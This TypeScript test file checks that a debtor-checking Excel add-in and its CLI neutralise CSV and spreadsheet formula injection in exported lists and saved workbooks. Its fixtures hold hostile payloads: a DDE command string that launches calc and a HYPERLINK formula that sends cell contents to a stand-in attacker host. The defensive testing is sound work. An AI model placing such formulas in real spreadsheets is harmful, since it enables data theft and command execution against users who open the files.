// CSV and .xlsx injection: every CSV the add-in exports (halt/continue list, Logboek) prefixes a cell that starts
// with =, +, -, @, tab or CR with an apostrophe, so Excel shows it as text; and a workbook saved through the CLI's
// file path (src/file/workbookFile.ts) holds such values as strings, never as formulas, when read back with exceljs.
import ExcelJS from "exceljs";
import fc from "fast-check";
import Papa from "papaparse";
import { compare } from "../../src/app/compare";
import type { Session } from "../../src/app/deps";
import { exportHaltList } from "../../src/app/exportHaltList";
import { exportLog } from "../../src/app/exportLog";
import { importDebtors } from "../../src/app/importDebtors";
import { setUpWorkbook } from "../../src/app/setUpWorkbook";
import { csvCell, csvLine, inertCell } from "../../src/domain/csv";
import { entryToRow, LOG_HEADERS } from "../../src/domain/log";
import { openWorkbookFile, saveWorkbookFile, workbookPort } from "../../src/file/workbookFile";
import { createMemoryExcel } from "@debiteurencheck/memory-excel";
import { aConfig, aSession, aWorkbook, CLIENT_LIST_HEADERS, DEBTOR_LIST_HEADERS, fixedClock, testCrypto, type TestWorkbook } from "../support/fixtures";
import { exceljsWorkbook } from "../support/memoryDisk";

const DANGEROUS_START = /^[=+\-@\t\r]/;
const STARTS = ["=", "+", "-", "@", "\t", "\r"];
const evil = (s: string, i: number) => `${s}HYPERLINK("http://aanvaller.invalid/?d="&A1,"D-${i}")`;
const team: Session = { ...aSession("debiteurenteam"), gebruiker: "=cmd|' /C calc'!A0", doel: "@SUM(1;2)" };
const dpo: Session = { ...aSession("dpo"), gebruiker: "+dpo", doel: "-controle" };

/** Cells of a `;`-separated CSV with BOM and CRLF, as Excel would split them. */
function cellsOf(csv: string): string[][] {
  expect(csv.startsWith("\uFEFF")).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ";", newline: "\r\n", skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** A workbook whose debtors carry a dangerous start in every field; all of them OCMW clients (equal numbers). */
async function injectedWorkbook(tw: TestWorkbook): Promise<void> {
  const setUp = await setUpWorkbook(tw.deps, team, { config: aConfig(), roleCodes: {} });
  if (!setUp.ok) throw new Error(setUp.error.code);
  const rows = STARTS.map((s, i) => [evil(s, i), `${s}Anna`, `${s}1+2`, "85073003328", `${s}Stalenstraat`, `${s}12`]);
  const imported = await importDebtors(tw.deps, team, { headers: DEBTOR_LIST_HEADERS, rows, source: "=bestand.csv" });
  if (!imported.ok) throw new Error(imported.error.code);
  const compared = await compare(tw.deps, team, { kind: "bestand", fileName: "@clienten.csv", headers: CLIENT_LIST_HEADERS, rows: [["Anna", "Peeters", "85073003328", "Stalenstraat", "12"]] });
  if (!compared.ok) throw new Error(compared.error.code);
}

describe("csvLine", () => {
  const value = fc.oneof(
    fc.string({ maxLength: 20 }),
    fc.constantFrom(...STARTS).chain((s) => fc.string({ maxLength: 10 }).map((t) => s + t)),
    fc.tuple(fc.string({ maxLength: 8 }), fc.constantFrom(";", ",", "\t", "\r\n", ", ", "; "), fc.constantFrom(...STARTS), fc.string({ maxLength: 8 })).map((p) => p.join("")),
  );

  it("quotes every field; Excel's split on ; gives back each value made inert (inertCell), nothing lost", () => {
    fc.assert(
      fc.property(fc.array(value, { minLength: 1, maxLength: 6 }), (values) => {
        const line = csvLine(values);
        expect(values.filter((v) => !/^"[^]*"$/.test(csvCell(v)))).toEqual([]);
        const [cells] = Papa.parse<string[]>(line, { delimiter: ";", newline: "\r\n" }).data;
        expect(cells).toEqual(values.map(inertCell));
        expect(cells.filter((c) => DANGEROUS_START.test(c))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it.each([";", ",", "\t"])("leaves no formula start after %p, even for a reader that ignores quotes", (separator) => {
    fc.assert(
      fc.property(fc.array(value, { minLength: 1, maxLength: 6 }), (values) => {
        const pieces = csvLine(values).split(/\r\n|\r|\n/).flatMap((l) => l.split(separator));
        const started = pieces.map((p) => p.replace(/^[ \u00a0]*"?[ \u00a0]*/, "")).filter((p) => /^[=+\-@]/.test(p));
        expect(started).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it("is what the exports use (inertCell is the one rule); the issue's example read with , stays text", () => {
    expect(STARTS.map((s) => inertCell(`${s}1`))).toEqual(STARTS.map((s) => `'${s}1`));
    expect(inertCell("'=1")).toBe("'=1");
    expect(csvLine(["D-1", "An Peeters,=1+2*3"])).toBe('"D-1";"An Peeters,\'=1+2*3"');
    const [commaCells] = Papa.parse<string[]>(csvLine(["D-1", "An Peeters,=1+2*3"]), { delimiter: ",", quoteChar: "\u0000" }).data;
    expect(commaCells).toEqual(['"D-1";"An Peeters', "'=1+2*3\""]);
  });
});

describe("exports from an injected workbook", () => {
  let tw: TestWorkbook;
  beforeAll(async () => {
    tw = aWorkbook();
    await injectedWorkbook(tw);
  });

  it("the halt/continue list: every dossier number is prefixed, nothing else changed", async () => {
    const list = await exportHaltList(tw.deps, team);
    if (!list.ok) throw new Error(list.error.code);
    expect(cellsOf(list.value.files[0].csv)).toEqual([
      ["Dossiernummer", "Status", "Invordering", "Opmerking"],
      // Tab and CR are trimmed when the list is read, so those two dossier numbers start with a plain letter.
      ...STARTS.map((s, i) => evil(s, i).trim()).map((d) => [DANGEROUS_START.test(d) ? `'${d}` : d, "cliënt OCMW", "stopzetten", ""]),
    ]);
  });

  it("the Logboek CSV: every row and field as in the sheet, formula-like ones prefixed, none left dangerous", async () => {
    const exported = await exportLog(tw.deps, dpo);
    if (!exported.ok) throw new Error(exported.error.code);
    const entries = (await tw.deps.workbook.readLog()).slice(0, exported.value.count);
    const expected = entries.map((e) => entryToRow(e).map((v) => (DANGEROUS_START.test(String(v)) ? `'${v}` : String(v))));
    const cells = cellsOf(exported.value.csv);
    expect(cells).toEqual([[...LOG_HEADERS], ...expected]);
    expect(cells.flat().filter((c) => DANGEROUS_START.test(c))).toEqual([]);
    // The injected values really are in there: user, purpose, file names, dossier numbers.
    expect(cells.flat()).toEqual(expect.arrayContaining(["'=cmd|' /C calc'!A0", "'@SUM(1;2)", `'${evil("=", 0)} [R000001]`]));
  });

  it("the Logboek JSON lines keep the exact values (for machines, not for Excel)", async () => {
    const exported = await exportLog(tw.deps, dpo);
    if (!exported.ok) throw new Error(exported.error.code);
    const first = JSON.parse(exported.value.jsonl.split("\n")[0]);
    expect(first.wie.gebruiker).toBe("=cmd|' /C calc'!A0");
  });
});

describe("a workbook file saved through the CLI's path, read back with exceljs", () => {
  /** Every cell of every sheet that exceljs reads as a formula, and every injected value that is not a plain string. */
  async function inspect(bytes: Uint8Array): Promise<{ formulas: string[]; strings: Map<string, unknown> }> {
    const wb = await exceljsWorkbook(bytes);
    const formulas: string[] = [];
    const strings = new Map<string, unknown>();
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula) formulas.push(`${ws.name}!${cell.address}`);
          const text = typeof cell.value === "string" ? cell.value : JSON.stringify(cell.value);
          if (/HYPERLINK|calc|SUM/.test(text)) strings.set(`${ws.name}!${cell.address}`, cell.value);
        }),
      ),
    );
    return { formulas, strings };
  }

  it("holds the values as strings, never formulas — after the add-in wrote them and after the CLI compared again", async () => {
    const tw = aWorkbook({ host: createMemoryExcel() });
    await injectedWorkbook(tw);
    const saved = await saveWorkbookFile(tw.host, { spinCount: 1 });
    const first = await inspect(saved);
    expect(first.formulas).toEqual([]);
    expect(first.strings.size).toBeGreaterThan(12);
    expect([...first.strings.values()].filter((v) => typeof v !== "string")).toEqual([]);

    // The CLI's `vergelijk <werkmap>`: open the file, compare through the same adapter, save a new file.
    const opened = await openWorkbookFile(saved, "werkmap.xlsx");
    if (!opened.ok) throw new Error(opened.error.code);
    const crypto = testCrypto();
    const deps = { workbook: workbookPort(opened.value.host), crypto, clock: fixedClock(), offsetMinutes: 120 };
    const again = await compare(deps, { ...team, bron: "CLI" }, { kind: "bestand", fileName: "=clienten.csv", headers: CLIENT_LIST_HEADERS, rows: [["-Anna", "=Peeters", "85073003328", "", ""]] });
    expect(again.ok).toBe(true);
    const second = await inspect(await saveWorkbookFile(opened.value.host, { spinCount: 1 }));
    expect(second.formulas).toEqual([]);
    expect([...second.strings.values()].filter((v) => typeof v !== "string")).toEqual([]);
    expect(second.strings.size).toBeGreaterThan(first.strings.size);
  }, 60_000);
});

describe("the Logboek export read with either separator (issue 15, 9)", () => {
  it("a self-stated name ‘An Peeters,=1+2*3’ gives no formula cell when the CSV is split on , or ; or tab", async () => {
    const tw = aWorkbook();
    const stated: Session = { ...aSession("debiteurenteam"), gebruiker: "An Peeters,=1+2*3", identiteit: "zelf opgegeven" };
    const setUp = await setUpWorkbook(tw.deps, stated, { config: aConfig(), roleCodes: {} });
    if (!setUp.ok) throw new Error(setUp.error.code);
    const exported = await exportLog(tw.deps, { ...aSession("dpo"), gebruiker: "+dpo" });
    if (!exported.ok) throw new Error(exported.error.code);
    const csv = exported.value.csv.slice(1);
    for (const delimiter of [";", ",", "\t"]) {
      const cells = Papa.parse<string[]>(csv, { delimiter, newline: "\r\n", skipEmptyLines: true }).data.flat();
      expect([delimiter, cells.filter((c) => DANGEROUS_START.test(c.replace(/^[ "]+/, "")))]).toEqual([delimiter, []]);
    }
    expect(cellsOf(exported.value.csv).some((row) => row.includes("An Peeters,'=1+2*3"))).toBe(true);
  });
});
